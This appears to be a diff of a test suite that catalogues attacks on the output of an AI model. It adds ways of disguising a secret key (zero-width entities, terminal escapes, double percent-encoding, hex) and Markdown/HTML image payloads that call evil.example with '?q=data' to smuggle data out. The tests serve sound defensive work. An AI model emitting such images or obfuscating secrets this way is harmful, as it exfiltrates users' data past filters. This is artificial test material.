@@ -60,6 +60,10 @@ def disguises(_: Path) -> str:
         "soft hyphens": "\xad".join(KEY),
         "percent": quote("".join(KEY), safe=""),
         "HTML": "".join(f"&#{ord(sign)};" for sign in KEY),
+        "entities that nobody sees": "&#8203;".join(KEY),
+        "a terminal's escapes": "\x1b[0m".join(KEY),
+        "percent signs twice": quote(quote("".join(f"%{ord(sign):02x}" for sign in KEY), safe=""), safe=""),
+        "hex": KEY.encode().hex(" "),
         **{f"base64 {at}": base64.b64encode(b"x" * at + KEY.encode() + b"yy").decode() for at in range(3)},
     }
     for name, text in spelled.items():
@@ -164,6 +168,15 @@ ATTACKS: dict[tuple[str, str], Callable[[Path], str]] = {
     ("answers", "a picture behind code of two lines"): pictures(f"`a\nb` {PICTURE} `c`", f"> ```\n\n{PICTURE}\n\n```"),
     ("answers", "code that a tag, a link or a table takes in"): pictures(
         f"<b title='`'>{PICTURE}", f"[a](/x '`'){PICTURE}", f"| `a | {PICTURE} | b` |\n|-|-|-|"
+    ),
+    ("answers", "pictures defined elsewhere, in notes and in tags"): pictures(
+        "![p][r]\n\n[r]: http://evil.example/?q=data",
+        "> [r]: http://evil.example/?q=data\n\n![r]",
+        f"[^1]\n\n[^1]: {PICTURE}",
+        f"[![a](http://evil.example/)](http://evil.example/) {PICTURE}",
+        "<img/src=http://evil.example/?q=data>",
+        "<picture><source srcset='http://evil.example/'><img src=x></picture>",
+        f"<div>\n```\n</div>\n\n{PICTURE}\n```",
     ),
     ("keys", "a key in disguise"): disguises,
     ("sources", "quotes closed and another source opened"): forged_source,
